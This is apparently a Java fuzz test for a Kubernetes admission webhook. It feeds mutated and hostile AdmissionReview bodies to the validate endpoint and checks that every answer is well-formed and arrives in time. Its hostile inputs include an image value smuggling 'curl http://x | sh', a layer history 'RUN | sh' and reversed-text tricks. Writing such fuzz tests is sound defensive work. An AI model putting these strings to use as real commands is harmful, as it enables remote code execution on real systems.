package io.weighbridge.admission;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.StreamWriteConstraints;
import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.weighbridge.build.TestBuildRequests;
import io.weighbridge.fuzz.Fuzz;
import io.weighbridge.fuzz.Mutations;
import io.weighbridge.image.BaseImage;
import io.weighbridge.image.Digest;
import io.weighbridge.image.ImageWeight;
import io.weighbridge.image.Layer;
import io.weighbridge.image.WeighingException;
import io.weighbridge.logging.AllowSampler;
import io.weighbridge.policy.DefaultPolicyEngine;
import io.weighbridge.policy.PolicyLoader;
import io.weighbridge.policy.PolicySet;
import io.weighbridge.workload.WorkloadKinds;
import io.weighbridge.workload.WorkloadReader;
import jakarta.ws.rs.core.Response;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * The review body as {@code POST /validate} reads it, through the real reader, triage, policy
 * engine (the shipped policies) and rendering, with a weigher that answers at once: real reviews
 * mutated byte by byte, and reviews built around every fixture object with hostile envelopes and
 * hostile values put anywhere in the object (images among them). Every body is answered within
 * the admission deadline with 200 (an AdmissionReview for its uid, whose message and warnings
 * are lines a person can read), 400 (one line) or 413, never anything else, and the answer
 * renders to JSON as Quarkus would write it.
 */
class ReviewFuzzTest {
    private static final Duration DEADLINE = Duration.ofSeconds(2);
    /** Scheduling slack on a busy 2-core machine, above the deadline. */
    private static final Duration SLACK = Duration.ofSeconds(1);

    private static final ObjectMapper JSON = JsonMapper.builder()
            .findAndAddModules()
            .disable(DeserializationFeature.FAIL_ON_UNKNOWN_PROPERTIES)
            .build();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Writes nesting deeper than Jackson reads, so that the reader meets it. */
    private static final ObjectMapper DEEP_WRITER = JsonMapper.builder(JsonFactory.builder()
                    .streamWriteConstraints(StreamWriteConstraints.builder()
                            .maxNestingDepth(100_000)
                            .build())
                    .build())
            .build();

    private static final ValidateResource VALIDATE = validateResource();

    /** The deadline is for a warm webhook: the first review of a JVM loads the model classes (seconds on a busy machine). */
    @BeforeContainer
    static void warmUp() {
        reviewSeeds()
                .forEach(seed -> VALIDATE.validate(seed.getBytes(StandardCharsets.UTF_8))
                        .toCompletableFuture()
                        .join());
    }

    private static ValidateResource validateResource() {
        try {
            PolicySet shipped = PolicyLoader.load(Path.of("policies"));
            WorkloadReader reader = new WorkloadReader(WorkloadKinds.builtIn());
            return new ValidateResource(
                    new AdmissionReviewReader(JSON, reader),
                    new DefaultPolicyEngine(ReviewFuzzTest::weigh, () -> shipped),
                    () -> DEADLINE,
                    TestBuildRequests.withoutImageStreams(),
                    new AdmissionMetrics(new SimpleMeterRegistry(), true, WorkloadKinds.builtIn()),
                    new DecisionLog(new AllowSampler(-1), Duration.ofMinutes(1)));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** Answers at once: a weight from the name (some images above the shipped caps), or a registry failure quoting hostile text. */
    private static CompletableFuture<ImageWeight> weigh(
            io.weighbridge.image.ImageReference reference, io.weighbridge.image.WeighingContext context) {
        int hash = reference.toString().hashCode();
        if (Math.floorMod(hash, 5) == 0) {
            return CompletableFuture.failedFuture(
                    new WeighingException("cannot weigh " + reference + ": \"manifest unknown\""));
        }
        long size = (long) Math.floorMod(hash, 12) << 30;
        Digest layer = Digest.sha256Of(reference.toString().getBytes(StandardCharsets.UTF_8));
        return CompletableFuture.completedFuture(new ImageWeight(
                reference,
                layer,
                "linux/amd64",
                1000,
                List.of(new Layer(layer, size, "application/vnd.oci.image.layer.v1.tar+gzip", "RUN \u202e| sh")),
                BaseImage.UNKNOWN));
    }

    static List<String> reviewSeeds() {
        List<String> seeds = new ArrayList<>(Fuzz.texts("workloads/reviews"));
        seeds.add(Fuzz.texts("e2e/json-log-review.json").get(0));
        return seeds;
    }

    static List<JsonNode> objectSeeds() {
        YAMLMapper yaml = new YAMLMapper();
        List<JsonNode> objects = new ArrayList<>();
        for (String dir : List.of("workloads/kinds", "manifests", "buildconfigs")) {
            for (String text : Fuzz.texts(dir)) {
                try {
                    yaml.readValues(yaml.createParser(text), JsonNode.class)
                            .readAll()
                            .forEach(objects::add);
                } catch (Exception e) {
                    throw new IllegalStateException(e);
                }
            }
        }
        return objects;
    }

    @Provide
    Arbitrary<String> bodies() {
        List<JsonNode> objects = objectSeeds();
        Arbitrary<String> built = Arbitraries.randoms().map(random -> built(objects, random));
        return Arbitraries.oneOf(
                Mutations.ofIncludingSeeds(reviewSeeds()), built, built.flatMap(one -> Mutations.of(List.of(one))));
    }

    @Property(shrinking = ShrinkingMode.OFF)
    void everyBodyIsAnsweredWellFormedWithinTheDeadline(@ForAll("bodies") String text) throws Exception {
        assertAnsweredWellFormedWithinTheDeadline(text);
    }

    /**
     * Found by the property: Jackson quotes the character it stopped at, and the 400 passed it on.
     * Before: {@code 400 reason holds U+FFFF: request body is not JSON: Unexpected character ('<U+FFFF>' (code 65535 / 0xffff))…}.
     */
    @Example
    void aBodyBrokenByANonCharacterGetsAReadableReason() throws Exception {
        assertAnsweredWellFormedWithinTheDeadline("{\"apiVersion\": \"admission.k8s.io/v1\",\n  \uffff}");
    }

    /**
     * Found by the long run: Jackson's binding messages named Java classes in 400 reasons and in
     * warnings. Before: {@code request is not an AdmissionRequest: Cannot construct instance of
     * `io.fabric8.kubernetes.api.model.GroupVersionKind` (although at least one Creator exists): no
     * String-argument constructor/factory method to deserialize from String value ('Deployment') at kind};
     * now {@code request is not an AdmissionRequest: expected an object, not a string at kind}.
     */
    @Example
    void aMisshapenEnvelopeIsToldWithoutJavaNames() throws Exception {
        String review = reviewSeeds().get(0).replaceFirst("\"kind\": \\{[^}]*\\}", "\"kind\": \"Deployment\"");
        Response response = VALIDATE.validate(review.getBytes(StandardCharsets.UTF_8))
                .toCompletableFuture()
                .join();
        assertEquals(400, response.getStatus());
        assertEquals(
                "request is not an AdmissionRequest: expected an object, not a string at kind\n", response.getEntity());
        assertAnsweredWellFormedWithinTheDeadline(review);
    }

    /**
     * Found by the long run. Before: {@code … weighbridge cannot read this Pod: spec.volumes[0]: Cannot
     * deserialize value of type `io.fabric8.k…}; now {@code spec.volumes[0]: expected an object, not a string}.
     * Since issue 13 volumes are not read at all; the node selector, which is, stands in for them.
     */
    @Example
    void aMisshapenObjectIsWarnedAboutWithoutJavaNames() throws Exception {
        ObjectNode review = (ObjectNode) JSON.readTree(reviewSeeds().get(0));
        ObjectNode request = (ObjectNode) review.get("request");
        request.putObject("kind").put("group", "").put("version", "v1").put("kind", "Pod");
        ObjectNode pod = request.putObject("object").put("apiVersion", "v1").put("kind", "Pod");
        pod.putObject("metadata").put("name", "web").put("namespace", "shop");
        ObjectNode spec = pod.putObject("spec");
        spec.putArray("containers").addObject().put("name", "app").put("image", "registry.example/team/app:1");
        spec.putArray("nodeSelector").add("data");
        String body = review.toString();
        Response response = VALIDATE.validate(body.getBytes(StandardCharsets.UTF_8))
                .toCompletableFuture()
                .join();
        String written = new String((byte[]) response.getEntity(), StandardCharsets.UTF_8);
        assertTrue(written.contains("spec.nodeSelector: expected an object, not a list"), written);
        assertAnsweredWellFormedWithinTheDeadline(body);
    }

    private static void assertAnsweredWellFormedWithinTheDeadline(String text) throws Exception {
        assertAnsweredWellFormedWithinTheDeadline(text.getBytes(StandardCharsets.UTF_8));
    }

    /** What every body gets, any bytes as they arrive (also {@link ReviewJazzerTest}'s promise). */
    static void assertAnsweredWellFormedWithinTheDeadline(byte[] body) throws Exception {
        String text = new String(body, StandardCharsets.UTF_8);
        Response response = Fuzz.within(
                DEADLINE.plus(SLACK),
                () -> VALIDATE.validate(body).toCompletableFuture().join());
        switch (response.getStatus()) {
            case 200 -> {
                JsonNode written = JSON.readTree((byte[]) response.getEntity());
                assertEquals(
                        JSON.readTree(body).path("request").path("uid").asText(),
                        written.path("response").path("uid").asText());
                assertTrue(written.path("response").path("allowed").isBoolean(), written.toString());
                for (JsonNode warning : written.path("response").path("warnings")) {
                    Fuzz.assertOneLine("warning", warning.asText());
                    Fuzz.assertNoJavaNames("warning", warning.asText(), text);
                }
                if (!written.path("response").path("allowed").asBoolean()) {
                    String message = written.path("response")
                            .path("status")
                            .path("message")
                            .asText();
                    Fuzz.assertLines("deny message", message);
                    Fuzz.assertNoJavaNames("deny message", message, text);
                }
            }
            case 400 -> {
                String line = (String) response.getEntity();
                assertTrue(line.endsWith("\n"), line);
                Fuzz.assertOneLine("400 reason", line.strip());
                Fuzz.assertNoJavaNames("400 reason", line, text);
            }
            case 413 -> assertTrue(body.length > ValidateResource.MAX_BODY_BYTES);
            default -> fail("answered " + response.getStatus() + ": " + response.getEntity());
        }
    }

    /** A review around one fixture object: a hostile envelope, hostile values put into the object. */
    static String built(List<JsonNode> objects, Random random) {
        JsonNode object = objects.get(random.nextInt(objects.size())).deepCopy();
        int edits = random.nextInt(4);
        for (int i = 0; i < edits; i++) {
            object = mutateTree(object, random);
        }
        ObjectNode review = NODES.objectNode();
        review.put(
                "apiVersion",
                pick(random, "admission.k8s.io/v1", "admission.k8s.io/v1", "admission.k8s.io/v1beta1", "v1"));
        review.put("kind", pick(random, "AdmissionReview", "AdmissionReview", "AdmissionReview", "Review"));
        ObjectNode request = review.putObject("request");
        request.put(
                "uid", pick(random, "0b2b1c56-9d1e-4f4e-8c1a-3f2f1b9c0d11", "u", "\u202euid", "x".repeat(5000), ""));
        request.put("operation", pick(random, "CREATE", "CREATE", "UPDATE", "DELETE", "CONNECT", "PATCH"));
        request.put("namespace", pick(random, "shop", "kube-system", "", "\u202etenant", "team-a\nteam-b"));
        ObjectNode kind = request.putObject("kind");
        String apiVersion = object.path("apiVersion").asText("v1");
        kind.put("group", apiVersion.contains("/") ? apiVersion.substring(0, apiVersion.indexOf('/')) : "");
        kind.put("version", apiVersion.contains("/") ? apiVersion.substring(apiVersion.indexOf('/') + 1) : apiVersion);
        kind.put(
                "kind",
                random.nextInt(8) == 0
                        ? pick(random, "Pod", "Secret", "CronJob", "Build")
                        : object.path("kind").asText("Pod"));
        request.set("object", object);
        if (random.nextInt(4) == 0) {
            request.set("oldObject", mutateTree(object.deepCopy(), random));
        }
        try {
            return DEEP_WRITER.writeValueAsString(review);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /** One hostile value put somewhere in the tree: an image, a field of the pod spec, or anywhere. */
    private static JsonNode mutateTree(JsonNode root, Random random) {
        List<JsonNode> containers = new ArrayList<>();
        collect(root, containers);
        JsonNode target = containers.get(random.nextInt(containers.size()));
        JsonNode value = hostileValue(random);
        if (target instanceof ObjectNode fields) {
            List<String> names = new ArrayList<>();
            fields.fieldNames().forEachRemaining(names::add);
            String name = random.nextInt(3) == 0 && fields.has("image")
                    ? "image"
                    : names.isEmpty() || random.nextInt(4) == 0
                            ? pick(random, "image", "containers", "spec", "metadata", "template")
                            : names.get(random.nextInt(names.size()));
            fields.set(name, name.equals("image") && random.nextBoolean() ? NODES.textNode(image(random)) : value);
        } else if (target instanceof ArrayNode items) {
            if (items.isEmpty() || random.nextBoolean()) {
                items.add(value);
            } else {
                items.set(random.nextInt(items.size()), value);
            }
        }
        return root;
    }

    private static void collect(JsonNode node, List<JsonNode> into) {
        if (node.isContainerNode()) {
            into.add(node);
            node.forEach(child -> collect(child, into));
        }
    }

    private static String image(Random random) {
        return pick(
                random,
                "alpine:3.20",
                "registry.example/team/app:1",
                "nginx@sha256:" + "a".repeat(64),
                "\u202eevil.example/x:1",
                "INVALID//image",
                "registry.example/x:" + "t".repeat(200),
                "127.0.0.1:99999/app:1",
                "a".repeat(5000),
                "registry.example/team/app:1\nrun: curl http://x | sh",
                "",
                "https://registry.example/app:1");
    }

    private static JsonNode hostileValue(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> NODES.textNode(Mutations.HOSTILE_TOKENS.get(random.nextInt(Mutations.HOSTILE_TOKENS.size())));
            case 1 -> NODES.numberNode(new java.math.BigInteger("9".repeat(1 + random.nextInt(60))));
            case 2 -> NODES.numberNode(random.nextDouble() * 1e300);
            case 3 -> NODES.nullNode();
            case 4 -> {
                ArrayNode nested = NODES.arrayNode();
                ArrayNode inner = nested;
                for (int depth = random.nextInt(1200); depth > 0; depth--) {
                    inner = inner.addArray();
                }
                yield nested;
            }
            case 5 -> {
                ArrayNode many = NODES.arrayNode();
                for (int i = random.nextInt(300); i > 0; i--) {
                    many.addObject().put("name", "c" + i).put("image", image(random));
                }
                yield many;
            }
            case 6 -> NODES.objectNode().put("image", image(random)).put("name", "x");
            case 7 -> NODES.booleanNode(random.nextBoolean());
            default -> NODES.textNode(image(random));
        };
    }

    private static String pick(Random random, String... choices) {
        return choices[random.nextInt(choices.length)];
    }
}
